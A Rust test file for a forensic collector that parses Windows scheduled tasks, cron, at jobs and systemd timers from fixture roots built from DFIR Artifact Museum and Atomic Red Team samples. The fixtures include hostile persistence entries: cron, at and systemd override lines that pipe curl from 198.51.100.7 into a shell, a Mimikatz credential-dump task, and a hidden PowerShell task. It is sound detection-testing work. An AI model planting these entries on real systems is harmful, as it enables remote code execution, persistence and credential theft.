//! `scheduled_tasks` on offline Windows and Linux roots built from real files (DFIR Artifact
//! Museum task tree, Atomic Red Team, Debian cron/timer files), and on the live host.

use crate::harness::{Archive, RootBuilder, collect, fixture};
use serde_json::Value;
use sha2::Digest;
use std::path::{Path, PathBuf};

fn sha_hex(data: &[u8]) -> String {
    sha2::Sha256::digest(data)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// A profile that runs only this collector, so each run is quick.
fn profile(dir: &Path) -> PathBuf {
    let p = dir.join("tasks-only.toml");
    std::fs::write(
        &p,
        "name = \"tasks-only\"\ndescription = \"test\"\n[collectors.scheduled_tasks]\n",
    )
    .unwrap();
    p
}

fn run_root(root: &Path) -> (i32, Archive) {
    let out = tempfile::tempdir().unwrap();
    let prof = profile(out.path());
    let (run, archive) = collect(
        out.path(),
        &[
            "--root",
            root.to_str().unwrap(),
            "--profile",
            prof.to_str().unwrap(),
        ],
    );
    let archive = archive.unwrap_or_else(|| panic!("no archive: {}", run.stderr));
    // The archive lives in `out`: keep the directory alive by leaking it for the test's life.
    std::mem::forget(out);
    (run.code, archive)
}

fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut v = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            v.extend(files_under(&p));
        } else {
            v.push(p);
        }
    }
    v
}

fn by_name<'a>(recs: &'a [Value], name: &str) -> &'a Value {
    recs.iter()
        .find(|r| r["name"] == name)
        .unwrap_or_else(|| panic!("no record named {name}"))
}

/// The manifest entry of the raw copy a record points at.
fn manifest_original(a: &mut Archive, member: &str) -> Value {
    let m = a.manifest();
    m["members"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["path"] == member)
        .unwrap_or_else(|| panic!("{member} not in manifest"))["original"]
        .clone()
}

fn windows_root(tasks_dir: &str) -> (RootBuilder, usize) {
    let root = RootBuilder::new();
    let museum = fixture("tasks/dfir-artifact-museum/Win10/APTSimulatorVM");
    let mut n = 0;
    for f in files_under(&museum) {
        let rel = f.strip_prefix(&museum).unwrap();
        root.copy(&format!("{tasks_dir}/{}", rel.display()), &f);
        n += 1;
    }
    root.copy(
        &format!("{tasks_dir}/falshupdate22"),
        &fixture("tasks/dfir-artifact-museum/Server2022/APTSimulatorVM/falshupdate22"),
    );
    root.copy(
        &format!("{tasks_dir}/T1053_05_SCTASK_HIDDEN_ATTRIB.xml"),
        &fixture("tasks/atomic-red-team/T1053_05_SCTASK_HIDDEN_ATTRIB.xml"),
    );
    (root, n + 2)
}

const MALFORMED: &[u8] = b"\xff\xfe<\x00T\x00not a task at all \x00\x01\x02";
const TRUNCATED: &[u8] = b"<?xml version=\"1.0\"?>\n<Task xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\
<RegistrationInfo><URI>\\Cut</URI></RegistrationInfo><Actions><Exec><Command>C:\\Users\\Public\\cut.exe</Command>\
<Arguments>-run</Arguments></Exec></Actions><Settings><Hid";

#[test]
fn windows_root_tasks() {
    let (root, n) = windows_root("Windows/System32/Tasks");
    root.write("Windows/System32/Tasks/Sub/Broken", MALFORMED);
    root.write("Windows/System32/Tasks/Cut", TRUNCATED);
    root.write("Windows/Tasks/evil.job", b"garbage, not a job file");
    root.write("Windows/Tasks/desktop.ini", b"[.ShellClassInfo]\r\n");
    let (code, mut a) = run_root(root.path());
    // Malformed files are gaps (copied, hashed, listed), not a partial collection.
    assert_eq!(code, 0, "malformed files are gaps, not a cut");
    let status = a.collector("scheduled_tasks");
    assert_eq!(status["status"], "ok", "{status}");
    assert!(status["error_count"].as_u64().unwrap() >= 2, "{status}");
    let recs = a.records("scheduled_tasks");
    let tasks: Vec<&Value> = recs
        .iter()
        .filter(|r| r["kind"] == "windows_task")
        .collect();
    // One record per file under Tasks, broken ones included.
    assert_eq!(tasks.len(), n + 2);

    let g = by_name(&recs, "\\GameOver");
    assert_eq!(g["source_path"], "C:\\Windows\\System32\\Tasks\\GameOver");
    assert_eq!(g["parse_status"], "ok");
    assert_eq!(g["actions"][0]["kind"], "exec");
    assert_eq!(g["actions"][0]["command"], "C:\\TMP\\mim.exe");
    assert_eq!(
        g["actions"][0]["arguments"],
        "sekurlsa::LogonPasswords > C:\\TMP\\o.txt"
    );
    assert_eq!(
        g["actions"][0]["command_line"],
        "C:\\TMP\\mim.exe sekurlsa::LogonPasswords > C:\\TMP\\o.txt"
    );
    assert_eq!(g["run_as"], "DESKTOP-TMKU40H\\TestUser");
    assert_eq!(g["hidden"], false);
    assert_eq!(g["enabled"], true);
    assert_eq!(g["uri"], "\\GameOver");
    assert_eq!(g["registration_date"], "2022-03-10T15:59:03");
    assert_eq!(g["triggers"][0]["type"], "time");
    assert_eq!(g["triggers"][0]["repetition_interval"], "PT5M");
    assert!(g["schedule"].as_str().unwrap().contains("every PT5M"));
    assert_eq!(g["windows_task"]["encoding"]["encoding"], "utf16_le");
    assert!(
        g.get("file_uid").is_none(),
        "the analyst's uid says nothing about a Windows image"
    );
    // Evidence: the raw copy is in the archive, byte for byte, and hashed in the manifest.
    let src = std::fs::read(root.path().join("Windows/System32/Tasks/GameOver")).unwrap();
    assert!(sha_hex(&src).starts_with("fbab477fa514"));
    assert_eq!(g["sha256"], sha_hex(&src));
    let member = g["archive_member"].as_str().unwrap().to_string();
    assert_eq!(a.member(&member), src);
    assert_eq!(manifest_original(&mut a, &member)["sha256"], sha_hex(&src));

    let f = by_name(&recs, "\\falshupdate22");
    assert_eq!(
        f["actions"][0]["command_line"],
        "powershell.exe -WindowStyle Hidden -nop -c \"\""
    );
    assert_eq!(f["run_as"], "WIN-FUDU2CKJOE8\\Test");

    let art = by_name(&recs, "\\T1053_05_SCTASK_HIDDEN_ATTRIB.xml");
    assert_eq!(art["hidden"], true);
    assert_eq!(art["uri"], "\\atomic red team");
    assert_eq!(
        art["actions"][0]["command"],
        "C:\\Windows\\system32\\calc.exe\""
    );
    assert_eq!(art["windows_task"]["encoding"]["encoding"], "utf8");
    assert_eq!(art["windows_task"]["encoding"]["declared"], "UTF-16");
    assert_eq!(art["triggers"][0]["type"], "logon");

    let ctf = by_name(
        &recs,
        "\\Microsoft\\Windows\\TextServicesFramework\\MsCtfMonitor",
    );
    assert_eq!(ctf["actions"][0]["kind"], "com_handler");
    assert_eq!(
        ctf["actions"][0]["command"],
        "{01575CFE-9A55-4003-A5E1-F38D1EBDCBE1}"
    );
    assert_eq!(ctf["hidden"], true);
    assert_eq!(ctf["run_as"], "S-1-5-32-545");
    let lic = by_name(
        &recs,
        "\\Microsoft\\Windows\\Subscription\\LicenseAcquisition",
    );
    assert_eq!(lic["hidden"], true);
    assert_eq!(
        lic["actions"][0]["command_line"],
        "%SystemRoot%\\system32\\ClipRenew.exe"
    );
    let wifi = by_name(
        &recs,
        "\\Microsoft\\Windows\\Workplace Join\\Automatic-Device-Join",
    );
    assert_eq!(
        wifi["actions"][0]["command_line"],
        "%SystemRoot%\\System32\\dsregcmd.exe $(Arg0) $(Arg1) $(Arg2)"
    );
    let google = by_name(
        &recs,
        "\\GoogleUpdateTaskMachineCore{CF8953F0-7413-4BC6-94A3-B0282ACC3AE4}",
    );
    assert_eq!(
        google["hidden"], false,
        "absent Hidden means the schema default"
    );
    assert_eq!(google["run_as"], "S-1-5-18");

    // The unparseable file: recorded as failed, still copied and hashed; one error says so.
    let broken = by_name(&recs, "\\Sub\\Broken");
    assert_eq!(broken["parse_status"], "failed");
    assert!(broken["parse_error"].is_string());
    assert_eq!(broken["sha256"], sha_hex(MALFORMED));
    let bm = broken["archive_member"].as_str().unwrap().to_string();
    assert_eq!(a.member(&bm), MALFORMED);
    assert_eq!(manifest_original(&mut a, &bm)["sha256"], sha_hex(MALFORMED));
    let errors = status["errors"].to_string();
    assert!(errors.contains("Broken"), "{errors}");
    // The truncated file keeps what it would run.
    let cut = by_name(&recs, "\\Cut");
    assert_eq!(cut["parse_status"], "partial");
    assert_eq!(
        cut["actions"][0]["command_line"],
        "C:\\Users\\Public\\cut.exe -run"
    );

    let jobs: Vec<&Value> = recs.iter().filter(|r| r["kind"] == "windows_job").collect();
    assert_eq!(jobs.len(), 1, "only *.job files");
    assert_eq!(jobs[0]["parse_status"], "failed");
    assert_eq!(jobs[0]["source_path"], "C:\\Windows\\Tasks\\evil.job");
    assert_eq!(jobs[0]["sha256"], sha_hex(b"garbage, not a job file"));
}

#[test]
fn windows_root_in_any_case() {
    let (root, n) = windows_root("windows/system32/TASKS");
    let (code, mut a) = run_root(root.path());
    assert_eq!(code, 0);
    assert_eq!(a.collector("scheduled_tasks")["status"], "ok");
    let recs = a.records("scheduled_tasks");
    assert_eq!(recs.len(), n);
    let g = by_name(&recs, "\\GameOver");
    assert_eq!(
        g["actions"][0]["command_line"],
        "C:\\TMP\\mim.exe sekurlsa::LogonPasswords > C:\\TMP\\o.txt"
    );
}

/// The real command lines of the Atomic Red Team tests, checked against the YAML so the
/// test breaks if the fixture and this test drift apart.
fn atomics() -> (String, String) {
    let cron = std::fs::read_to_string(fixture("atomics/T1053.003.yaml")).unwrap();
    let timer = std::fs::read_to_string(fixture("atomics/T1053.006.yaml")).unwrap();
    assert!(cron.contains("echo \"* * * * * #{command}\""));
    assert!(cron.contains("default: /tmp/evil.sh"));
    assert!(cron.contains("default: echo 'Hello from Atomic Red Team' > /tmp/atomic.log"));
    assert!(timer.contains("ExecStart=/bin/touch /tmp/art-systemd-timer-marker"));
    assert!(timer.contains("OnCalendar=*-*-* *:*:00"));
    assert!(timer.contains("systemd-run --user --unit=Atomic-Red-Team --on-calendar '*:0/1' /bin/sh -c 'echo \"$(date) $(whoami)\" >>/tmp/log'"));
    (cron, timer)
}

const ART_SERVICE: &str = "[Unit]\nDescription=Atomic Red Team Systemd Timer Service\n[Service]\nType=simple\nExecStart=/bin/touch /tmp/art-systemd-timer-marker\n[Install]\nWantedBy=multi-user.target\n";
const ART_TIMER: &str = "[Unit]\nDescription=Executes Atomic Red Team Systemd Timer Service\nRequires=art-timer.service\n[Timer]\nUnit=art-timer.service\nOnCalendar=*-*-* *:*:00\n[Install]\nWantedBy=timers.target\n";
// What `systemd-run --unit=Atomic-Red-Team --on-calendar '*:0/1' /bin/sh -c '...'` leaves in
// /run/systemd/transient (systemd writes argv words quoted and resets ExecStart first).
const TRANSIENT_TIMER: &str = "# This is a transient unit file, created programmatically via the systemd API. Do not edit.\n[Unit]\nDescription=/bin/sh -c \"echo \\\"$(date) $(whoami)\\\" >>/tmp/log\"\n\n[Timer]\nOnCalendar=*:0/1\nRemainAfterElapse=no\n";
const TRANSIENT_SERVICE: &str = "# This is a transient unit file, created programmatically via the systemd API. Do not edit.\n[Service]\nExecStart=\nExecStart=\"/bin/sh\" \"-c\" \"echo \\\"$(date) $(whoami)\\\" >>/tmp/log\"\n";
const AT_JOB: &str = "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nPATH=/usr/bin:/bin; export PATH\ncd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER2a5c1e3f'\ncurl -s http://198.51.100.7/x.sh | sh\nmarcinDELIMITER2a5c1e3f\n";

#[cfg(unix)]
#[test]
fn linux_root_cron_at_and_timers() {
    use std::os::unix::fs::{PermissionsExt, symlink};
    atomics();
    let root = RootBuilder::new();
    let lx = fixture("linux");
    for f in files_under(&lx.join("etc")) {
        let rel = f.strip_prefix(&lx).unwrap();
        root.copy(rel.to_str().unwrap(), &f);
    }
    // merged-usr: /lib is a link to usr/lib, so each timer is reachable twice.
    for f in files_under(&lx.join("lib/systemd/system")) {
        let name = f.file_name().unwrap().to_str().unwrap();
        root.copy(&format!("usr/lib/systemd/system/{name}"), &f);
    }
    symlink("usr/lib", root.path().join("lib")).unwrap();
    root.write(
        "etc/passwd",
        b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
    );
    let mut huge = b"*/7 * * * * echo ".to_vec();
    huge.extend(std::iter::repeat_n(b'A', 200_000));
    let mut root_tab = Vec::new();
    root_tab.extend_from_slice(b"# DO NOT EDIT THIS FILE\nMAILTO=\"\"\n");
    root_tab.extend_from_slice(b"\x00\xff\xfe\x01garbage\x7f\n");
    root_tab.extend_from_slice(&huge);
    root_tab.push(b'\n');
    // T1053.003 test 1: `echo "* * * * * #{command}"` with command=/tmp/evil.sh
    root_tab.extend_from_slice(b"* * * * * /tmp/evil.sh\n");
    root_tab.extend_from_slice(b"@reboot curl -fsSL http://198.51.100.7/i.sh | sh\n");
    root_tab.extend_from_slice(b"0 3 * * * /usr/bin/mail -s report root%line one%line two\n");
    root.write("var/spool/cron/crontabs/root", &root_tab);
    // T1053.003 test 4 appends the bare command to a "crontab" named persistevil.
    root.write(
        "var/spool/cron/crontabs/persistevil",
        b"echo 'Hello from Atomic Red Team' > /tmp/atomic.log\n",
    );
    // T1053.003 test 2: the same command as a script in every run-parts directory.
    let script = b"echo 'Hello from Atomic Red Team' > /tmp/atomic.log\n";
    root.write("etc/cron.daily/persistevil", script);
    std::fs::set_permissions(
        root.path().join("etc/cron.daily/persistevil"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    root.write("etc/cron.hourly/.placeholder", b"# keep\n");
    // T1053.006 test 1, enabled with `systemctl enable`.
    root.write(
        "etc/systemd/system/art-timer.service",
        ART_SERVICE.as_bytes(),
    );
    root.write("etc/systemd/system/art-timer.timer", ART_TIMER.as_bytes());
    root.mkdir("etc/systemd/system/timers.target.wants");
    symlink(
        "/etc/systemd/system/art-timer.timer",
        root.path()
            .join("etc/systemd/system/timers.target.wants/art-timer.timer"),
    )
    .unwrap();
    root.write(
        "run/systemd/transient/Atomic-Red-Team.timer",
        TRANSIENT_TIMER.as_bytes(),
    );
    root.write(
        "run/systemd/transient/Atomic-Red-Team.service",
        TRANSIENT_SERVICE.as_bytes(),
    );
    root.write(
        "home/alice/.config/systemd/user/sync.timer",
        b"[Timer]\nOnBootSec=5min\nOnUnitActiveSec=1h\n[Install]\nWantedBy=timers.target\n",
    );
    root.write(
        "home/alice/.config/systemd/user/sync.service",
        b"[Service]\nExecStart=%h/.local/bin/agent --quiet\n",
    );
    // An at job for 2024-05-01T10:00Z: minutes since the epoch in hex.
    let minutes = 1_714_557_600u64 / 60;
    let at_name = format!("a00001{minutes:08x}");
    root.write(
        &format!("var/spool/cron/atjobs/{at_name}"),
        AT_JOB.as_bytes(),
    );
    root.write("var/spool/cron/atjobs/.SEQ", b"1\n");
    // A hand-made job in the RHEL spool: no at header, so atd runs the whole file.
    root.write(
        "var/spool/at/b0000a01c2d3e4",
        b"nohup /dev/shm/.k -d >/dev/null 2>&1\n",
    );
    // A drop-in that swaps the command of a packaged timer's service (persistence without
    // touching the unit file).
    root.write(
        "usr/lib/systemd/system/logrotate.service",
        b"[Service]\nType=oneshot\nExecStart=/usr/sbin/logrotate /etc/logrotate.conf\n",
    );
    root.write(
        "etc/systemd/system/logrotate.service.d/override.conf",
        b"[Service]\nExecStart=\nExecStart=/bin/bash -c 'curl -s http://198.51.100.7/k | bash'\nUser=nobody\n",
    );

    let (code, mut a) = run_root(root.path());
    assert!(matches!(code, 0 | 2), "exit {code}");
    let st = a.collector("scheduled_tasks");
    assert!(
        matches!(st["status"].as_str(), Some("ok" | "partial")),
        "{st}"
    );
    let recs = a.records("scheduled_tasks");
    let of_kind = |k: &str| recs.iter().filter(|r| r["kind"] == k).collect::<Vec<_>>();

    // /etc/crontab: four Debian lines, user field, environment, raw line next to parsed.
    let sys: Vec<&Value> = of_kind("cron")
        .into_iter()
        .filter(|r| r["source_path"] == "/etc/crontab")
        .collect();
    assert_eq!(sys.len(), 4);
    assert_eq!(sys[0]["line_number"], 18);
    assert_eq!(sys[0]["run_as"], "root");
    assert_eq!(sys[0]["triggers"][0]["expression"], "17 * * * *");
    assert_eq!(
        sys[0]["actions"][0]["command_line"],
        "cd / && run-parts --report /etc/cron.hourly"
    );
    assert_eq!(sys[0]["actions"][0]["shell"], "/bin/sh");
    assert!(
        sys[0]["raw_line"]
            .as_str()
            .unwrap()
            .starts_with("17 *\t* * *\troot")
    );
    assert_eq!(sys[0]["cron"]["environment"][1]["name"], "PATH");
    let crontab = std::fs::read(lx.join("etc/crontab")).unwrap();
    assert_eq!(sys[0]["sha256"], sha_hex(&crontab));
    assert_eq!(a.member("files/etc/crontab"), crontab);
    assert_eq!(
        manifest_original(&mut a, "files/etc/crontab")["sha256"],
        sha_hex(&crontab)
    );
    assert_eq!(
        of_kind("cron")
            .iter()
            .filter(|r| r["source_path"] == "/etc/cron.d/sysstat")
            .count(),
        2
    );

    // root's crontab: hostile lines are not fatal, the evil lines are parsed.
    let user: Vec<&Value> = of_kind("cron")
        .into_iter()
        .filter(|r| r["source_path"] == "/var/spool/cron/crontabs/root")
        .collect();
    let evil = user
        .iter()
        .find(|r| r["actions"][0]["command_line"] == "/tmp/evil.sh")
        .expect("the evil.sh line");
    assert_eq!(evil["run_as"], "root");
    assert_eq!(evil["schedule"], "every minute");
    assert_eq!(evil["raw_line"], "* * * * * /tmp/evil.sh");
    assert_eq!(evil["line_number"], 5);
    assert_eq!(evil["sha256"], sha_hex(&root_tab));
    assert_eq!(a.member("files/var/spool/cron/crontabs/root"), root_tab);
    let boot = user
        .iter()
        .find(|r| r["triggers"][0]["type"] == "boot")
        .expect("@reboot line");
    assert_eq!(
        boot["actions"][0]["command_line"],
        "curl -fsSL http://198.51.100.7/i.sh | sh"
    );
    assert_eq!(boot["triggers"][0]["expression"], "@reboot");
    let mail = user.iter().find(|r| r["line_number"] == 7).expect("% line");
    assert_eq!(
        mail["actions"][0]["command"],
        "/usr/bin/mail -s report root"
    );
    assert_eq!(mail["actions"][0]["stdin"], "line one\nline two");
    let big = user
        .iter()
        .find(|r| r["line_number"] == 4)
        .expect("huge line");
    assert_eq!(big["raw_line_truncated"], true);
    assert_eq!(big["actions"][0]["truncated"], true);
    assert!(big["raw_line"].as_str().unwrap().len() <= 64 * 1024);
    assert!(
        !user.iter().any(|r| r["line_number"] == 3),
        "garbage line is no job"
    );

    let pe = of_kind("cron")
        .into_iter()
        .find(|r| r["source_path"] == "/var/spool/cron/crontabs/persistevil")
        .expect("persistevil crontab");
    assert_eq!(pe["run_as"], "persistevil");
    assert_eq!(pe["parse_status"], "partial", "cron would reject this line");

    // run-parts scripts.
    let scripts = of_kind("cron_script");
    let s = scripts
        .iter()
        .find(|r| r["name"] == "cron.daily/persistevil")
        .unwrap();
    assert_eq!(
        s["actions"][0]["command_line"],
        "/etc/cron.daily/persistevil"
    );
    assert_eq!(s["enabled"], true);
    assert_eq!(s["sha256"], sha_hex(script));
    assert_eq!(a.member("files/etc/cron.daily/persistevil"), script);
    let ph = scripts
        .iter()
        .find(|r| r["name"] == "cron.hourly/.placeholder")
        .unwrap();
    assert_eq!(ph["enabled"], false);

    // anacron.
    let ana = of_kind("anacron");
    assert_eq!(ana.len(), 3);
    let daily = ana.iter().find(|r| r["name"] == "cron.daily").unwrap();
    assert_eq!(daily["triggers"][0]["expression"], "1");
    assert_eq!(daily["triggers"][0]["delay"], "5min");
    assert_eq!(
        daily["actions"][0]["command_line"],
        "run-parts --report /etc/cron.daily"
    );

    // at.
    let at = of_kind("at");
    assert_eq!(at.len(), 2, ".SEQ is not a job");
    let odd = at
        .iter()
        .find(|r| r["source_path"] == "/var/spool/at/b0000a01c2d3e4")
        .unwrap();
    assert_eq!(
        odd["actions"][0]["command_line"],
        "nohup /dev/shm/.k -d >/dev/null 2>&1\n"
    );
    let at: Vec<&Value> = at
        .into_iter()
        .filter(|r| r["source_path"] != "/var/spool/at/b0000a01c2d3e4")
        .collect();
    assert_eq!(at[0]["run_as"], "root");
    assert_eq!(at[0]["triggers"][0]["start_utc"], "2024-05-01T10:00:00Z");
    assert_eq!(
        at[0]["actions"][0]["command_line"],
        "curl -s http://198.51.100.7/x.sh | sh"
    );
    assert_eq!(at[0]["actions"][0]["working_directory"], "/root");

    // systemd: the ART timer joined to its service, enabled by the .wants link.
    let timers = of_kind("systemd_timer");
    let art = by_name(&recs, "art-timer.timer");
    assert_eq!(art["source_path"], "/etc/systemd/system/art-timer.timer");
    assert_eq!(art["enabled"], true);
    assert_eq!(art["run_as"], "root");
    assert_eq!(art["schedule"], "OnCalendar=*-*-* *:*:00");
    assert_eq!(art["triggers"][0]["type"], "calendar");
    assert_eq!(art["actions"][0]["command"], "/bin/touch");
    assert_eq!(
        art["actions"][0]["command_line"],
        "/bin/touch /tmp/art-systemd-timer-marker"
    );
    assert_eq!(
        art["systemd"]["service_path"],
        "/etc/systemd/system/art-timer.service"
    );
    assert_eq!(art["systemd"]["service"]["type"], "simple");
    assert_eq!(
        art["systemd"]["enabled_by"][0],
        "/etc/systemd/system/timers.target.wants/art-timer.timer"
    );
    let svc_member = art["systemd"]["service_archive_member"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(a.member(&svc_member), ART_SERVICE.as_bytes());
    assert_eq!(
        art["systemd"]["service_sha256"],
        sha_hex(ART_SERVICE.as_bytes())
    );
    assert_eq!(
        a.member(art["archive_member"].as_str().unwrap()),
        ART_TIMER.as_bytes()
    );

    let tr = by_name(&recs, "Atomic-Red-Team.timer");
    assert_eq!(tr["systemd"]["transient"], true);
    assert_eq!(tr["enabled"], true);
    assert_eq!(
        tr["actions"][0]["argv"],
        serde_json::json!(["/bin/sh", "-c", "echo \"$(date) $(whoami)\" >>/tmp/log"])
    );
    assert_eq!(
        tr["actions"].as_array().unwrap().len(),
        1,
        "ExecStart= reset"
    );

    let sync = by_name(&recs, "sync.timer");
    assert_eq!(sync["run_as"], "alice");
    assert_eq!(sync["systemd"]["scope"], "user");
    assert_eq!(sync["enabled"], false);
    assert_eq!(sync["triggers"][0]["type"], "boot");
    assert_eq!(sync["triggers"][0]["delay"], "5min");
    assert_eq!(sync["triggers"][1]["type"], "unit_active");
    assert_eq!(
        sync["actions"][0]["command_line"],
        "%h/.local/bin/agent --quiet"
    );

    // The Debian timers: each once despite /lib → /usr/lib, with the schedule parsed.
    for name in [
        "apt-daily.timer",
        "logrotate.timer",
        "anacron.timer",
        "e2scrub_all.timer",
        "sysstat-collect.timer",
    ] {
        let n = timers.iter().filter(|r| r["name"] == name).count();
        assert_eq!(n, 1, "{name} recorded {n} times");
    }
    let lr = by_name(&recs, "logrotate.timer");
    assert_eq!(
        lr["actions"].as_array().unwrap().len(),
        1,
        "the override resets ExecStart"
    );
    assert_eq!(
        lr["actions"][0]["command_line"],
        "/bin/bash -c \"curl -s http://198.51.100.7/k | bash\""
    );
    assert_eq!(lr["run_as"], "nobody");
    assert_eq!(
        lr["systemd"]["drop_ins"][0],
        "/etc/systemd/system/logrotate.service.d/override.conf"
    );
    assert!(
        a.names()
            .contains(&"files/etc/systemd/system/logrotate.service.d/override.conf".to_string())
    );
    let apt = by_name(&recs, "apt-daily.timer");
    assert_eq!(
        apt["source_path"],
        "/usr/lib/systemd/system/apt-daily.timer"
    );
    assert_eq!(apt["triggers"][0]["expression"], "*-*-* 6,18:00");
    assert_eq!(apt["triggers"][0]["random_delay"], "12h");
    assert_eq!(apt["systemd"]["timer"]["persistent"], true);
    assert!(
        apt["warnings"][0]
            .as_str()
            .unwrap()
            .contains("apt-daily.service not found")
    );
}

#[test]
fn live_host() {
    let out = tempfile::tempdir().unwrap();
    let prof = profile(out.path());
    let (run, archive) = collect(out.path(), &["--profile", prof.to_str().unwrap()]);
    let mut a = archive.unwrap_or_else(|| panic!("no archive: {}", run.stderr));
    let st = a.collector("scheduled_tasks");
    assert!(
        matches!(st["status"].as_str(), Some("ok" | "partial")),
        "{st}"
    );
    let recs = a.records("scheduled_tasks");
    if cfg!(target_os = "linux") {
        if Path::new("/etc/crontab").is_file() {
            assert!(recs.iter().any(|r| r["source_path"] == "/etc/crontab"));
        }
        let timers: Vec<&Value> = recs
            .iter()
            .filter(|r| r["kind"] == "systemd_timer")
            .collect();
        let on_disk = [
            "/lib/systemd/system",
            "/usr/lib/systemd/system",
            "/etc/systemd/system",
        ]
        .iter()
        .filter_map(|d| std::fs::read_dir(d).ok())
        .flatten()
        .filter_map(Result::ok)
        .any(|e| e.file_name().to_string_lossy().ends_with(".timer"));
        if on_disk {
            assert!(!timers.is_empty());
        }
        // A unit reached through /lib and /usr/lib is one record.
        let mut seen = std::collections::HashSet::new();
        for t in &timers {
            if t["systemd"]["scope"] == "system" && t["systemd"]["overridden_by"].is_null() {
                assert!(
                    seen.insert(t["name"].as_str().unwrap()),
                    "duplicate {}",
                    t["name"]
                );
            }
        }
    }
}
